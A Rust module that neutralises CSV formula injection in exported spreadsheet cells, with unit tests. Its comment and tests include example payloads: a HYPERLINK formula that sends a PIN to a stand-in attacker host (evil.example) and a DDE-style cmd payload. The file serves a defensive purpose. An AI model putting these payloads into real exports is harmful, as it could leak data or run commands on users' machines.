//! The cells of every CSV file Mandate writes (the mail-merge letters, the benchmark sample),
//! made safe to open in a spreadsheet. A cell that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is a formula to Excel, LibreOffice and Google Sheets: a business name such as
//! `=HYPERLINK("http://evil.example/?pin="&K2,"…")` beside a PIN cell would send the PIN away
//! when the letters file is opened. Such a cell is written with a leading `'`, which
//! spreadsheets show as text (OWASP, "CSV Injection"). The API accepts such names (`+1 Plumbing`
//! and `@Home Renovations` are real businesses); only what is written to a file is changed.

/// `value`, neutralised when a spreadsheet would read it as a formula.
pub fn cell(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

/// A row of cells, each neutralised.
pub fn row<'a>(values: impl IntoIterator<Item = &'a str>) -> Vec<String> {
    values.into_iter().map(cell).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_openers_are_neutralised_and_other_text_is_kept() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?pin=\"&K2,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,2)",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        for text in [
            "Rideau Builders Inc.",
            "",
            "24-123456 BLD",
            "a=b",
            "Q4WE-3CVY-HW",
        ] {
            assert_eq!(cell(text), text);
        }
        assert_eq!(row(["=1", "ok"]), ["'=1", "ok"]);
    }
}
